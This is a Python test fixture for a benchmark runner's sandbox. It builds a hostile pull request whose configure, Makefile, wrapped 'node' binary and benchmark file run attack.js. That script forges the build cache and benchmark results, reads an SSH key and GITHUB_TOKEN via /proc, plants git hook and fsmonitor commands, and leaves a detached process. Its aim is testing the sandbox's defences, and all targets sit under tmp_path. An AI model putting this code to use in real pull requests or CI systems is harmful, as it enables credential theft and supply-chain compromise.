"""A hostile pull request for the sandbox tests: a head commit whose build and binary attack the runner.

On top of a Node-like repository (tests/nodelike.py) whose ``main`` is benign, the branch
``hostile`` replaces ``configure`` and the ``Makefile`` and adds ``attack.js``. Every stage
runs the same attacks: ``configure`` and ``make`` (stages ``configure``, ``build``), the built
"node" (a shell wrapper around the real node, so benchmarks still run: stages ``version`` and
``binary``) and the benchmark file ``benchmark/hostile/probe.js`` on both sides (``bench``).

The attacker knows the layout (the strongest case): every target's path is written into
attack.js. All targets live under the test's tmp_path, because where a defence is missing
the attack really happens (as root on the test machine): the base's cache entry, the run's
--output, a fake $HOME with a key in it, a secret file, the user's repository, a TCP and a
Unix-socket "runner service" the test listens on, the fake GITHUB_TOKEN of the environment.
It also starts ``setsid sleep TAG`` (a process meant to outlive the job) and, at build time,
points the worktree's .git at a git directory whose core.fsmonitor would run a command.

Each attempt prints one line, ``hostile STAGE ATTEMPT: RESULT`` (``ok``, an errno code, or
what it found): to the build log at build time, to stderr later. ``probe.js`` exits 1 after
its attempts, so the runner keeps that stderr (with the binary's lines before it) in run.json.
"""

from __future__ import annotations

import json
import re
import time
from dataclasses import asdict, dataclass
from pathlib import Path

from nodelike import NodeLikeRepo, _commit, git

ATTACK_JS = r"""'use strict';
// A hostile pull request's attacks (benchgate's sandbox tests). Stage: process.argv[2].
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn, spawnSync } = require('child_process');
const T = __TARGETS__;
const stage = process.argv[2] || 'unknown';
const lines = [];

function attempt(name, fn) {
  let result;
  try {
    result = fn();
    if (result === undefined) result = 'ok';
  } catch (error) {
    result = error.code || String(error.message).slice(0, 60);
  }
  lines.push(`hostile ${stage} ${name}: ${result}`);
}

function ancestors() {
  // The processes above this one (where the parent's command line and environment are).
  const found = [];
  let pid = process.pid;
  for (let depth = 0; depth < 12 && pid > 1; depth++) {
    let stat;
    try { stat = fs.readFileSync(`/proc/${pid}/stat`, 'utf8'); } catch { break; }
    pid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
    if (pid > 0) found.push(pid);
  }
  return found;
}

function readProc(pid, what) {
  try { return fs.readFileSync(`/proc/${pid}/${what}`, 'latin1').split('\0'); } catch { return []; }
}

function connect(options) {
  const code = `const s = require('net').connect(${JSON.stringify(options)}, () => { s.end('pwned'); ` +
    `console.log('connected'); }); s.on('error', (e) => console.log(e.code)); ` +
    `s.setTimeout(2000, () => { console.log('timeout'); s.destroy(); });`;
  return spawnSync(process.execPath, ['-e', code], { encoding: 'utf8', timeout: 5000 }).stdout.trim() || 'no answer';
}

attempt('poison-cache', () => {
  // A consistent forgery: the binary, entry.json's sha256 and size, and the COMPLETE marker all agree.
  let entry = { binary_name: 'node' };
  try { entry = JSON.parse(fs.readFileSync(path.join(T.baseEntry, 'entry.json'), 'utf8')); } catch {}
  const fake = `#!/bin/sh\n# poisoned by the pull request\nexec ${process.execPath} "$@"\n`;
  const sha256 = require('crypto').createHash('sha256').update(fake).digest('hex');
  fs.writeFileSync(path.join(T.baseEntry, entry.binary_name), fake);
  fs.writeFileSync(path.join(T.baseEntry, 'entry.json'), JSON.stringify({ ...entry, sha256, size: fake.length }));
  fs.writeFileSync(path.join(T.baseEntry, 'COMPLETE'), `${sha256}\n`);
});
attempt('read-cache-entry', () => `read ${fs.readFileSync(path.join(T.baseEntry, 'entry.json')).length} bytes`);
attempt('list-cache', () => `${fs.readdirSync(path.join(T.cache, 'binaries')).length} entries`);
attempt('find-output', () => {
  for (const pid of ancestors()) {
    const argv = readProc(pid, 'cmdline');
    const index = argv.findIndex((arg) => arg === '--output' || arg === '-o');
    if (index >= 0) return `found ${argv[index + 1]}`;
  }
  return `not found (${ancestors().length} ancestors visible)`;
});
attempt('forge-results', () => {
  fs.appendFileSync(path.join(T.output, 'results.csv'), '"new","calc/add.js","n=2000 type=\'int\'",1e15,1e-9\n');
});
attempt('forge-record', () => fs.writeFileSync(path.join(T.output, 'run.json.forged'), '{}'));
attempt('write-home', () => {
  fs.writeFileSync(path.join(os.homedir(), 'pwned'), stage);
  return `ok in a home of ${fs.readdirSync(os.homedir()).length} file(s)`;
});
attempt('write-host-home', () => fs.writeFileSync(path.join(T.home, 'pwned-host'), stage));
attempt('read-home-key', () => `read ${fs.readFileSync(path.join(T.home, '.ssh', 'id_rsa')).length} bytes`);
attempt('read-token', () => {
  const holds = (pid) => readProc(pid, "environ").some((value) => value.includes(T.token));
  const leaks = [process.pid, ...ancestors()].filter(holds);
  return `${process.env.GITHUB_TOKEN === T.token ? 'SET' : 'unset'} here, in ${leaks.length} ancestor(s)`;
});
attempt('connect-service', () => connect({ host: '127.0.0.1', port: T.port }));
attempt('connect-unix-service', () => connect({ path: T.socket }));
attempt('leave-process', () => {
  spawn('setsid', ['sleep', T.tag], { detached: true, stdio: 'ignore' }).unref();
  return 'started';
});
attempt('read-outside', () => `read ${fs.readFileSync(T.secret).length} bytes`);
attempt('write-outside', () => fs.writeFileSync(path.join(T.root, `escape-${stage}`), stage));
attempt('write-repo-hook', () => {
  fs.writeFileSync(path.join(T.repo, '.git', 'hooks', 'post-checkout'), `#!/bin/sh\ntouch ${T.root}/hook-ran\n`,
    { mode: 0o755 });
});
if (stage === 'build') {
  attempt('replace-git-link', () => {
    // A git directory of its own whose config runs a command on the next git call in this worktree.
    const evil = path.join(process.cwd(), '.evil-git');
    for (const dir of ['objects', 'refs/heads']) fs.mkdirSync(path.join(evil, dir), { recursive: true });
    fs.writeFileSync(path.join(evil, 'HEAD'), 'ref: refs/heads/main\n');
    fs.writeFileSync(path.join(evil, 'config'),
      `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch ${T.root}/fsmonitor-ran; false"\n`);
    fs.writeFileSync(path.join(process.cwd(), '.git'), `gitdir: ${evil}\n`);
  });
}
const text = lines.join('\n') + '\n';
if (stage === 'configure' || stage === 'build') process.stdout.write(text); else process.stderr.write(text);
"""

CONFIGURE = """#!/bin/sh
# The hostile head's configure: attacks, then writes what make needs.
node attack.js configure
printf 'REAL_NODE := %s\\n' "$(command -v node)" > config.mk
"""

MAKEFILE = """-include config.mk
OUT := out/Release

all: $(OUT)/node

# The hostile build: attacks, then a "node" that attacks whenever it runs and then runs the real node.
$(OUT)/node: attack.js tools/make-node.js
\tnode attack.js build
\tmkdir -p $(OUT)
\tnode tools/make-node.js $(REAL_NODE) $@

.PHONY: all
"""

MAKE_NODE_JS = r"""'use strict';
// Writes the hostile "node": a shell wrapper that runs attack.js (embedded) and then the real node.
const fs = require('fs');
const [real, target] = process.argv.slice(2);
const attack = fs.readFileSync(require('path').join(__dirname, '..', 'attack.js'), 'utf8');
fs.writeFileSync(target, `#!/bin/sh
if [ "$1" = --version ]; then
  "${real}" - version >/dev/null 2>&1 <<'ATTACK'
${attack}
ATTACK
  exec "${real}" --version
fi
"${real}" - binary <<'ATTACK'
${attack}
ATTACK
exec "${real}" "$@"
`, { mode: 0o755 });
"""

PROBE_JS = """'use strict';
// The hostile benchmark file: runs the attacks from inside a benchmark process, on both sides.
const path = require('path');
const { spawnSync } = require('child_process');
const common = require('../common.js');

const bench = common.createBenchmark(main, { n: [1] });

function main() {
  const attack = path.join(__dirname, '..', '..', 'attack.js');
  const result = spawnSync(process.execPath, [attack, 'bench'], { encoding: 'utf8' });
  process.stderr.write(result.stderr);
  process.exit(1);  // a failure, so that the runner keeps this stderr in run.json
}
"""


@dataclass(frozen=True)
class Targets:
    """What the hostile code goes after; every path under the test's tmp_path."""

    root: str  # tmp_path: escape-* files would appear here
    cache: str
    baseEntry: str  # noqa: N815 - the name attack.js reads
    output: str
    home: str
    secret: str
    repo: str
    token: str
    port: int
    socket: str
    tag: str  # the argument of the `setsid sleep` that must not survive


def add_hostile_head(repo: NodeLikeRepo, targets: Targets) -> str:
    """Commit the hostile head on branch ``hostile`` (off ``main``); returns its SHA."""
    git(repo.path, "checkout", "--quiet", "-b", "hostile", "main")
    attack = ATTACK_JS.replace("__TARGETS__", json.dumps(asdict(targets)))
    sha = _commit(
        repo.path,
        "a pull request",
        {
            "configure": CONFIGURE,
            "Makefile": MAKEFILE,
            "attack.js": attack,
            "tools/make-node.js": MAKE_NODE_JS,
            "benchmark/hostile/probe.js": PROBE_JS,
        },
    )
    git(repo.path, "checkout", "--quiet", "main")
    repo.commits["hostile"] = sha
    return sha


_LINE = re.compile(r"^hostile (\w+) ([\w-]+): (.*)$")


def observations(text: str) -> dict[tuple[str, str], str]:
    """{(stage, attempt): result} from build logs or stderr tails."""
    found = {}
    for line in text.splitlines():
        match = _LINE.match(line.strip())
        if match:
            found[(match.group(1), match.group(2))] = match.group(3)
    return found


def processes_with(text: str) -> list[int]:
    """Processes whose command line holds ``text`` (its arguments are NUL-separated there: pass one)."""
    found = []
    for proc in Path("/proc").iterdir():
        try:
            if text in (proc / "cmdline").read_bytes().decode(errors="replace"):
                found.append(int(proc.name))
        except (OSError, ValueError):
            continue
    return found


def survivors(text: str, seconds: float = 5.0) -> list[int]:
    """``processes_with(text)`` once they had ``seconds`` to go: a PID namespace's processes are killed when
    it ends, but the kernel reaps them asynchronously, so a loaded machine may show one for a moment."""
    deadline = time.monotonic() + seconds
    while processes_with(text) and time.monotonic() < deadline:
        time.sleep(0.05)
    return processes_with(text)
